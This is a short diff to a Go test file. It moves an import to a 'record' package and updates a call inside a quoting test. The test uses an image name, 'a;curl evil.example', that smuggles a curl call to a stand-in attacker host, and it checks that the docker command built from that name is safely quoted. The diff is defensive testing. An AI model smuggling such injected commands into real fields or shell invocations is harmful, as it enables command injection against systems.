@@ -6,7 +6,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
-	"handbook/content"
+	"handbook/content/record"
 )
 
 func TestIsOwn(t *testing.T) {
@@ -61,7 +61,7 @@ func TestQuote(t *testing.T) {
 		}
 	}
 	c := Container{Image: "a;curl evil.example"} // as an engine in the machine may say
-	i := Inventory{Engine: Engine{Images: []Image{{Name: content.CanonicalRef(c.Image)}}}}
+	i := Inventory{Engine: Engine{Images: []Image{{Name: record.CanonicalRef(c.Image)}}}}
 	if got := i.found(c); got != "docker ps -aq --filter 'ancestor=a;curl evil.example'" {
 		t.Error(got)
 	}
